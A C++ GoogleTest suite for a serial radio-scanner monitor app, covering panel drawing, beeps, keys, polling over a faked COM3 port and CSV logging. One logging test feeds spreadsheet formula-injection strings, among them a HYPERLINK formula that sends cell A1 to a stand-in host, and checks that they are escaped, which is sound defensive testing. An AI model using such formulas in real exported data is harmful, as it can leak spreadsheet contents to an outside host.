// The app over the fake: what each reading draws where, beeps, keys, pitches;
// the exchange and the polling cycle against a scanner scripted on COM3.
#include <gtest/gtest.h>

#include <climits>
#include <map>
#include <thread>

#include "app/aids.h"
#include "app/monitor.h"
#include "app/options.h"
#include "console/keys.h"
#include "console/screen.h"
#include "runtime/out.h"
#include "serial/clock.h"
#include "serial/port.h"
#include "tests/fake/fake_console.h"
#include "tests/fake/fake_serial.h"
#include "tests/fake/fake_sound.h"

namespace {
using namespace std::chrono_literals;

const std::string kLeft(1, char(221)), kRight(1, char(222));
std::string full(int n) { return std::string(size_t(n), char(219)); }
template <typename F> int exit_code(F run) {  // the code it ends the program with, or -1
    try {
        run();
    } catch (const fake::Exit& e) {
        return e.code;
    }
    return -1;
}

struct Panels : ::testing::Test {
    void SetUp() override {
        fake::reset();
        std_init(1);
        while (key_read(nullptr) != -1) continue;
        scr_out = fake::console_output;
        scr_size(20, 40);
        mon.model_a = mon.model_b = mon.muted = 0;
        mon.sound_choice = 1;
        mon.beep_mode = mon.volume = mon.reading_count = 0;
        mon.last_title[0] = 0, tone_started = false;
        options = MonitorOptions{}, peak = PeakHold{}, history = History{};
        build_pitch_table();
    }
    // Row and column from 1, as the program counts them.
    std::string text(int row, int column, int n) { return fake::console_line(row - 1).substr(column - 1, n); }
    int colour(int row, int column) { return fake::console_attr(row - 1, column - 1); }
};

TEST_F(Panels, LevelVerdictsFollowTheModel) {
    const struct { int16_t a, b; int32_t level; int colour; } cases[] = {  // of the verdict's first cell
        {1, 0, 290, 0x1B}, {1, 0, 291, 0x1C}, {1, 0, 220, 0x1B}, {1, 0, 219, 0x1E}, {0, 1, 435, 0x1B},
        {0, 1, 436, 0x1C}, {0, 1, 350, 0x1B}, {0, 1, 349, 0x1E}, {1, 1, 300, 0x1E},  // B's verdict stays
        {1, 0, 10, 0x1E}, {0, 0, 300, 0x1C}, {1, 0, 9, 0x1E}};  // no model, no reading: a text of their own
    for (const auto& c : cases) {
        mon.model_a = c.a, mon.model_b = c.b;
        draw_level_panel(c.level);
        const int at = (c.a || c.b) && c.level >= 10 ? 19 : 11;
        EXPECT_EQ(colour(7, at), c.colour) << c.a << c.b << " " << c.level;
        if (at == 19) {
            const std::string digits = std::to_string(c.level);
            EXPECT_EQ(text(7, 11, 6), std::string(5 - digits.size(), ' ') + digits + " ");
        }
    }
}

TEST_F(Panels, TuningBarGrowsFromTheCentreMarkWithAnOffsetEstimateForModelB) {
    mon.model_b = 1;
    draw_tuning_panel(100, 1462500);  // centred: the scale text left of the mark
    const std::string scale = text(13, 2, 19);
    EXPECT_EQ(scale.back(), '|');
    const struct { int32_t reading, frequency; std::string bar, estimate; } cases[] = {
        {99, 1462500, std::string(17, ' ') + kRight + "|" + std::string(20, ' '), ""},  // too close to judge
        {101, 1462500, scale + kLeft + std::string(19, ' '), ""},
        {50, 1462500, full(18) + "|" + std::string(20, ' '), ""},  // far off: 18 blocks, too far to judge
        {INT_MIN, 1462500, full(18) + "|" + std::string(20, ' '), ""},  // no overflow of the distance
        {90, 4000000, std::string(18, ' ') + "|" + full(5) + std::string(15, ' '), "~5550 Hz high"},  // above 380 MHz
        {90, 3800000, std::string(13, ' ') + full(5) + "|" + std::string(20, ' '), "~5550 Hz low"},
        {110, 1462500, scale + full(5) + std::string(15, ' '), "~3550 Hz high"},
        {90, 1000000, std::string(13, ' ') + full(5) + "|" + std::string(20, ' '), ""},  // broadcast band
        {90, 1090000, std::string(13, ' ') + full(5) + "|" + std::string(20, ' '), "~3550 Hz low"}};
    for (const auto& c : cases) {
        draw_tuning_panel(c.reading, c.frequency);
        EXPECT_EQ(text(13, 2, 39), c.bar) << c.reading << " at " << c.frequency;
        EXPECT_EQ(text(11, 15, 26), c.estimate + std::string(26 - c.estimate.size(), ' ')) << c.reading;
    }
    EXPECT_EQ(text(11, 10, 5), " 90  ");
}

TEST_F(Panels, SignalBarIs39WideStopsAtTheScaleAndBeepsByModeAsReadingsCount) {
    for (auto [signal, bar] : {std::pair{13, std::string(39, ' ')}, {14, kLeft + std::string(38, ' ')},
                               {1023, full(37) + kLeft + " "}, {1024, full(37) + kLeft + " "},
                               {-1, full(37) + kLeft + " "}}) {
        draw_signal_bar(signal);
        EXPECT_EQ(text(17, 2, 39), bar) << signal;
    }
    EXPECT_EQ(mon.reading_count, 3);
    EXPECT_TRUE(fake::beeps.empty()) << "tone output beeps";
    mon.sound_choice = 0, mon.beep_mode = 1;  // every 8th
    for (int i = 0; i < 13; ++i) draw_signal_bar(400);
    EXPECT_EQ(fake::beeps, (std::vector<std::pair<DWORD, DWORD>>{{1086, 20}, {1086, 20}}));
    mon.beep_mode = 3;  // every 2nd, counted on from 16
    draw_signal_bar(0), draw_signal_bar(0);
    EXPECT_EQ(fake::beeps.size(), 3u);
    EXPECT_EQ(fake::beeps[2].first, 80u);
    mon.beep_mode = 0;  // silent, then continuous
    for (int i = 0; i < 8; ++i) draw_signal_bar(400);
    mon.beep_mode = 5, draw_signal_bar(400);
    EXPECT_EQ(fake::beeps.size(), 4u);
}

TEST_F(Panels, KeysStepTheModeChangeTheVolumeWithinItsLimitsMuteAndBeep) {
    mon.sound_choice = 0;
    fake::type_key(31, 's');
    handle_keys();
    EXPECT_EQ(mon.beep_mode, 5);
    EXPECT_EQ(text(15, 23, 17), "Beeps: continuous");
    for (int i = 0; i < 5; ++i) fake::type_key(31, 'S');
    for (int i = 0; i < 101; ++i) fake::type_key(72, 0);  // Up
    for (char c : {'m', 'Q', 'q'}) fake::type_key(50, c);
    handle_keys();
    EXPECT_EQ(std::vector<int>({mon.beep_mode, mon.volume.load(), mon.muted.load()}), std::vector<int>({0, 100, 1}));
    mon.volume = 1;
    fake::type_key(80, 0), fake::type_key(80, 0);  // Down
    handle_keys();
    EXPECT_EQ(mon.volume.load(), 0);
    EXPECT_TRUE(fake::beeps.empty());
    fake::type_key(59, 0), fake::type_key(30, 'a');  // F1, A
    handle_keys();
    EXPECT_EQ(fake::beeps, (std::vector<std::pair<DWORD, DWORD>>{{1000, 10}, {1000, 10}}));
}

TEST_F(Panels, EscapeWaitsForTheToneThreadThenEnds) {
    std::atomic<bool> tone_closed{false};
    std::thread tone([&] {  // closes its device once it has seen the monitor wait for it
        for (int i = 0; i < 1000 && mon.quit_flag.load() != 1; ++i) std::this_thread::sleep_for(1ms);
        const int asked = fake::count("Sleep");
        for (int i = 0; i < 1000 && fake::count("Sleep") < asked + 5; ++i) std::this_thread::sleep_for(1ms);
        tone_closed = true, mon.quit_flag = 0;
    });
    tone_started = true;
    fake::type_key(1, 27);
    const bool ended = exit_code(handle_keys) == 0, closed_at_exit = tone_closed.load();
    tone.join();
    EXPECT_TRUE(ended && closed_at_exit);
}

// Peak and strip on the fake clock, which only Sleep moves: each step sleeps,
// then a pass reads the signal; the peak's text, its mark's column on the
// bar and the strip's newest cells are what the screen then shows.
TEST_F(Panels, ThePeakHoldsThenFallsWithinTwoSecondsAndTheStripMovesEachSecond) {
    options.peak = options.history = 1;
    const struct { DWORD sleep; int32_t signal; const char* peak; int mark; const char* strip; } steps[] = {
        {0, 600, "^ 600 ", 0, "  "}, {100, 300, "^ 600 ", 24, "  "}, {900, 0, "^ 600 ", 24, " \xB2"},
        {1000, 600, "^ 600 ", 0, "\xB2\xB0"}, {2400, 300, "^ 600 ", 24, "\xB2\xFA"},  // a second without readings
        {1100, 300, "^ 450 ", 18, "\xFA\xB1"}, {500, 440, "^ 450 ", 18, "\xB1\xB1"}, {500, 250, "^ 250 ", 0, "\xB1\xB1"},
        {100, 700, "^ 700 ", 0, "\xB1\xB1"}};
    for (const auto& step : steps) {
        Sleep(step.sleep);
        aids_pass("SR-B20", 400, 100, 1462500, step.signal);
        draw_signal_bar(step.signal);
        EXPECT_EQ(text(15, 17, 6), step.peak) << fake::now_ms();
        EXPECT_EQ(text(17, 2, 39).find(char(179)), step.mark ? size_t(step.mark - 2) : std::string::npos);
        EXPECT_EQ(text(18, 31, 2), step.strip) << fake::now_ms();
    }
    fake::type_key(25, 'p');
    aids_pass("SR-B20", 400, 100, 1462500, 500), handle_keys();
    EXPECT_EQ(text(15, 17, 6), "^ 500 ") << "P drops the peak to the reading";
    aids_found("SR-B20"), aids_lost();
    EXPECT_EQ(text(15, 17, 6), "      ");
    options.peak = 0;
    fake::type_key(25, 'p'), handle_keys();
    EXPECT_EQ(fake::beeps.size(), 1u) << "without --peak P beeps";
}

// The POSIX layer gives the terminal back at any exit; Windows keeps the monitor's screen unless asked.
TEST_F(Panels, APortThatWillNotReopenGivesTheConsoleBackBeforeSayingWhy) {
    fake::console.chars.assign(fake::console.chars.size(), 'k');
    const std::vector<char> before = fake::console.chars;
    scr_open(1, 20, 40);
    EXPECT_EQ(exit_code([] { open_failed("COM3 cannot be opened.\n"); }), 1);
    EXPECT_EQ(fake::console.chars, before);
}

// Where the platform tells no cause (Windows), the error code names it if it can.
TEST(OpenFailure, TheCodeNamesNotFoundOrInUseElseTheOldSentenceStays) {
    mon.port_name[0] = 0, mon.port_number = 3;
    char line[1400];
    for (auto [code, cause] : {std::pair<DWORD, std::string>{ERROR_FILE_NOT_FOUND, "not found"},
                               {ERROR_PATH_NOT_FOUND, "not found"}, {ERROR_ACCESS_DENIED, "in use or not permitted"},
                               {ERROR_SHARING_VIOLATION, "in use or not permitted"}, {0, "absent or in use"}}) {
        open_failure_text(line, code);
        EXPECT_EQ(line, "COM3 cannot be opened: " + cause + ".\n") << code;
    }
}

// The tone's pitch for a reading; its sound is measured on the backend.
TEST(Tone, PitchTableRisesFrom80HzByOneHertzThenBySixPerMilleAndMutingSilences) {
    build_pitch_table();
    for (int i = 0; i <= 87; ++i) EXPECT_EQ(mon.pitch_table[i], 80 + i) << i;
    EXPECT_EQ(std::vector<int>({mon.pitch_table[100], mon.pitch_table[1023]}), std::vector<int>({180, 45123}));
    for (auto [signal, muted, index] : {std::tuple{512, 0, 512}, {512, 1, 0}, {1024, 0, 0}, {-1, 0, 0}})
        EXPECT_EQ(tone_index(signal, int16_t(muted)), index) << signal;
}

struct Scanner : Panels {
    fake::SerialDevice* line = nullptr;
    char reply[256];
    int answered = 0, answer_limit = 1 << 30;  // then the scanner falls silent
    std::map<std::string, std::string> replies = {{"IDN", "IDN,SR-B20\r"},      {"VER", "VER,Firmware 2.07\r"},
                                                  {"LVL", "LVL,628\r"},         {"TUN", "TUN,100,1462500\r"},
                                                  {"SIG", "SIG,512\r"}};
    void SetUp() override {
        Panels::SetUp();
        clock_mode = CLOCK_UNPROBED;
        mon.connected = mon.lost_count = mon.signal_fail_count = mon.signal_index = mon.last_title[0] = 0;
        mon.port_number = 3, mon.current_baud = 38400;
        line = &fake::com(3);
        ASSERT_EQ(port_open(3, 38400, 8, 0, 1), 0);
        line->peer = [this](fake::SerialDevice& d, const std::string& sent) {  // by the command's code, 2 ms later
            if (++answered <= answer_limit && replies.count(sent.substr(0, 3))) d.send(replies[sent.substr(0, 3)], 2);
        };
    }
    void TearDown() override { port_close(3); }
    std::string info(const std::string& answer, int32_t result = 0) {
        replies["VER"] = answer;
        EXPECT_EQ(query_info(reply), result) << answer;
        return reply;
    }
    std::string commands() {
        std::string all;
        for (size_t i = 0; i + 3 <= line->received.size(); i += 4) all += line->received.substr(i, 3) + " ";
        return all;
    }
    std::string row(int r) { return text(r, 1, 40); }
};

// Left-over bytes behind a reply's CR wait for the next exchange, which drains them first.
TEST_F(Scanner, ACommandEndsInACarriageReturnAReplyKeeps127CharactersAndSilenceTimesOutAfter500ms) {
    EXPECT_EQ(info("VER,Firm\nware 2.07\r\nIDN,STALE\r"), "VER,Firmware 2.07");
    EXPECT_EQ(line->received, "VER\r");
    EXPECT_EQ(port_table[3].rx_end - port_table[3].rx_pos, 11);  // behind the CR: left for the next exchange
    EXPECT_EQ(info("VER,2.07\r"), "VER,2.07");
    EXPECT_EQ(info(std::string(127, 'x') + "\r"), std::string(127, 'x'));
    const std::string overflow = info(std::string(128, 'x') + "\r", 1);
    EXPECT_EQ(overflow.find('x'), std::string::npos);
    replies.clear();
    while (port_getc(3) >= 0) continue;
    int64_t start = fake::now_ms();
    fake::sleeps.clear();
    EXPECT_EQ(query_info(reply), 1);
    EXPECT_EQ(fake::now_ms() - start, 500);
    EXPECT_EQ(fake::sleeps, std::vector<DWORD>(fake::sleeps.size(), 1));  // polls of an empty line sleep 1 ms
    EXPECT_NE(std::string(reply), overflow);
    for (int64_t gap : {60, 70}) {  // the deadline is fixed: the CR at 480 ms is in time, at 560 ms not
        line->peer = [gap](fake::SerialDevice& d, const std::string&) {
            for (int i = 0; i < 8; ++i) d.send(std::string(1, "VER,1.0\r"[i]), gap * (i + 1));
        };
        EXPECT_EQ(query_info(reply), gap == 60 ? 0 : 1) << gap;
    }
}

// Model A doubles the level, model B scales 1023 to 640 (the models' names
// and a failure leaving the level alone: the scanner fuzz target).
TEST_F(Scanner, TheModelReplyNamesTheModelsThatScaleTheLevel) {
    const struct { const char *model, *level; int16_t a, b; int32_t want; } cases[] = {
        {"IDN,SR-A10\r", "LVL,128\r", 1, 0, 256},  {"IDN,SR-B20\r", "LVL,1023\r", 0, 1, 640},
        {"IDN,SR-B20\r", "LVL,600\r", 0, 1, 375},  {"IDN,A10/B20\r", "LVL,128\r", 1, 1, 256},
        {"IDN,SR-C30\r", "LVL,128\r", 0, 0, 0},    {"IDN,SR-A10\r", "X,2000000000\r", 1, 0, INT32_MAX}};
    for (const auto& c : cases) {
        replies["IDN"] = c.model, replies["LVL"] = c.level;
        EXPECT_EQ(query_model(reply), 0);
        EXPECT_EQ(std::make_pair(mon.model_a, mon.model_b), std::make_pair(c.a, c.b)) << c.model;
        int32_t level = 42;
        EXPECT_EQ(query_level(&level), 0) << c.level;
        EXPECT_EQ(level, c.want) << c.level;
    }
}

// The caller reads the signal from the fifth character on, and only a good
// reply draws the help line.
TEST_F(Scanner, OnlyAGoodSignalReplyPassesAndDrawsTheHelp) {
    for (auto [in, result] : {std::pair{"LVL,512\r", 1}, {"SIG,\r", 1}, {"SIG,5\r", 0}}) {
        replies["SIG"] = in;
        EXPECT_EQ(query_signal(reply), result) << in;
        EXPECT_EQ(row(20) == std::string(40, ' '), result == 1) << in;
    }
}

// Then the check query sees another model, or the second info reply differs
// from the first: the pass starts afresh with a new top, nothing drawn.
TEST_F(Scanner, AGoodPassQueriesInOrderAndAChangedModelOrInfoStartsAfresh) {
    answer_limit = 8;  // one whole pass, then silence
    poll_cycle();
    EXPECT_EQ(commands(), "IDN VER LVL VER IDN TUN TUN SIG VER IDN IDN ");
    EXPECT_NE(row(5).find("Model: SR-B20  firmware 2.07"), std::string::npos) << row(5);
    const struct { std::string code, second, commands; } cases[] = {
        {"IDN", "IDN,SR-A10\r", "IDN VER LVL VER IDN IDN VER LVL IDN IDN "},
        {"VER", "VER,Firmware 2.08\r", "IDN VER LVL VER IDN VER "}};
    for (const auto& c : cases) {
        scr_clear(0x10), line->received.clear(), answered = 0, mon.signal_index = 77;
        int seen = 0;
        line->peer = [&](fake::SerialDevice& d, const std::string& sent) {
            std::string code = sent.substr(0, 3);
            if (++answered <= 7) d.send(code == c.code && ++seen > 1 ? c.second : replies[code], 2);
        };
        poll_cycle();
        EXPECT_EQ(commands().substr(0, c.commands.size()), c.commands);
        EXPECT_EQ(row(5), std::string(40, ' ')) << c.code;
        EXPECT_EQ(mon.signal_index.load(), 0) << c.code;
    }
}

TEST_F(Scanner, TheThirdFailedSignalReadingBlanksItsRows) {
    answer_limit = 8;
    poll_cycle();
    replies["SIG"] = "SIG\r";  // too short to hold a number
    for (int passes : {2, 1}) {  // each time a top, then passes whose signal fails
        answered = 0, answer_limit = 1 + 7 * passes;
        poll_cycle();
        EXPECT_EQ(row(17) == std::string(40, ' '), passes == 1) << mon.signal_fail_count;
        EXPECT_EQ(row(15) == std::string(40, ' '), passes == 1) << mon.signal_fail_count;
    }
}

const std::string kHead = "time,port,model,frequency_hz,level,tuning,signal,event\n";

// Appended after what the file held (so no second header), a row a pass and
// one an event, fields quoted where the scanner's text needs it. A new log's
// header and a log that will not open: tests/e2e/aids.sh.
TEST_F(Scanner, TheLogAppendsARowForEachPassAndEventWithTheLocalTimeAndItsOffset) {
    txt_copy(options.log_path, "s.csv");
    fake::disk["s.csv"] = kHead + "earlier\n";
    aids_open(), aids_started(), aids_found("SR-B20"), Sleep(1250);
    aids_pass("SR-B20", 392, 111, 1462500, 510), aids_found("A,\"1\""), aids_lost(), aids_ended();
    EXPECT_EQ(fake::disk["s.csv"], kHead + "earlier\n"
                                   "2026-03-01T13:00:00.000+01:00,COM3,,,,,,started\n"
                                   "2026-03-01T13:00:00.000+01:00,COM3,SR-B20,,,,,found at 38400 baud\n"
                                   "2026-03-01T13:00:01.250+01:00,COM3,SR-B20,146250000,392,111,510,\n"
                                   "2026-03-01T13:00:01.250+01:00,COM3,\"A,\"\"1\"\"\",,,,,model changed\n"
                                   "2026-03-01T13:00:01.250+01:00,COM3,,,,,,communication lost\n"
                                   "2026-03-01T13:00:01.250+01:00,COM3,,,,,,ended\n");
    char time[64];
    for (auto [offset, text] : {std::pair{0, "12:00:01.250+00:00"}, {-330, "06:30:01.250-05:30"}, {840, "02:00:01.250+14:00"}}) {
        fake::utc_offset_min = offset;
        log_time(time);
        EXPECT_STREQ(time + 11, text);
    }
}

// Rows are whole or absent: the log goes on only after a whole line of an
// rxmon log, and a row that the disk cut short is taken back; a failure
// before the screen is up shows once it is.
TEST_F(Scanner, TheLogGoesOnOnlyAfterAWholeLineOfAnRxmonLogAndTakesBackACutRow) {
    txt_copy(options.log_path, "s.csv");
    const std::string started = "2026-03-01T13:00:00.000+01:00,COM3,,,,,,started\n",
                      ended = "2026-03-01T13:00:00.000+01:00,COM3,,,,,,ended\n";
    const struct { std::string held; size_t room; std::string after; int code; } cases[] = {
        {kHead + "x\n", SIZE_MAX, kHead + "x\n" + started + ended, 0},
        {kHead + "2", SIZE_MAX, kHead + "2\n" + started + ended, 0},
        {kHead, 20, kHead, 0},  {"", 30, "", 0},  // the disk full within the row, within the header
        {"hello world", SIZE_MAX, "hello world", 1},  {"x" + kHead.substr(1), SIZE_MAX, "x" + kHead.substr(1), 1}};
    for (const auto& c : cases) {
        fake::disk = {{"s.csv", c.held}}, fake::disk_free = c.room, scr_clear(0x10);
        int code = 0;
        try {
            aids_open(), scr_clear(0x10), aids_tick(), aids_started(), aids_ended();
        } catch (const fake::Exit& e) {
            code = e.code;
        }
        EXPECT_EQ(code, c.code) << c.held;
        EXPECT_EQ(fake::disk["s.csv"], c.after) << c.held;
        EXPECT_EQ(row(4).find("Log stopped"), c.room == SIZE_MAX ? std::string::npos : 1) << row(4);
    }
    options.log_path[0] = 0;
}

// The scanner's texts reach a spreadsheet as text, never as a formula, and
// in UTF-8 that a strict reader takes: a byte that is none becomes U+FFFD.
TEST_F(Scanner, LoggedTextsCannotActAsFormulasAndAreAlwaysUtf8) {
    const std::string bad = "\xEF\xBF\xBD";
    const struct { std::string model, field; } cases[] = {
        {"=HYPERLINK(\"http://x/?\"&A1;\"B20\")", "\"'=HYPERLINK(\"\"http://x/?\"\"&A1;\"\"B20\"\")\""},
        {"+SUM(1;2)", "'+SUM(1;2)"}, {"-2", "'-2"}, {"@A1", "'@A1"}, {"\tB", "'\tB"}, {"\rB", "\"'\rB\""},
        {"B=2-0", "B=2-0"}, {"B\xff" "20", "B" + bad + "20"}, {"\xC3\xA9t\xC3", "\xC3\xA9t" + bad},
        {"\xC0\x80", bad + bad}, {"\xED\xA0\x80", bad + bad + bad}, {"\xF4\x90\x80\x80", bad + bad + bad + bad},
        {"\xF0\x9F\x93\xBB", "\xF0\x9F\x93\xBB"}, {"\xE2\x82", bad + bad}};
    txt_copy(options.log_path, "s.csv");
    aids_open();
    for (const auto& c : cases) {
        size_t end = fake::disk["s.csv"].size();
        log_event(c.model.c_str(), "e");
        EXPECT_EQ(fake::disk["s.csv"].substr(end), "2026-03-01T13:00:00.000+01:00,COM3," + c.field + ",,,,,e\n") << c.model;
    }
    aids_ended();
    options.log_path[0] = 0;
}

TEST_F(Scanner, TwoSilentModelQueriesGiveUpAfterASecondAndTheSixthEntryTellsOfNoCommunication) {
    answer_limit = 0;
    int64_t start = ms_now();
    poll_cycle();
    EXPECT_EQ(commands(), "IDN IDN ");
    EXPECT_TRUE(ms_now() - start >= 1000 && ms_now() - start < 1010) << ms_now() - start;
    for (int entry = 2; entry <= 5; ++entry) poll_cycle();
    EXPECT_EQ(row(3).find("no communication"), std::string::npos) << row(3);
    poll_cycle();
    EXPECT_NE(row(3).find("[no communication with scanner]"), std::string::npos) << row(3);
    EXPECT_EQ(fake::console.title, "Scanner - no response");
    int titles = fake::count("SetConsoleTitleA");
    show_status(-1);
    EXPECT_EQ(fake::count("SetConsoleTitleA"), titles) << "the title is set only when it changes";
    for (int32_t value : {0, 115200, 9600}) {  // each status covers the widest one
        show_status(value);
        EXPECT_EQ(row(3).find(']', value > 0 ? 0 : 39), std::string::npos) << value << ": " << row(3);
    }
}

}  // namespace
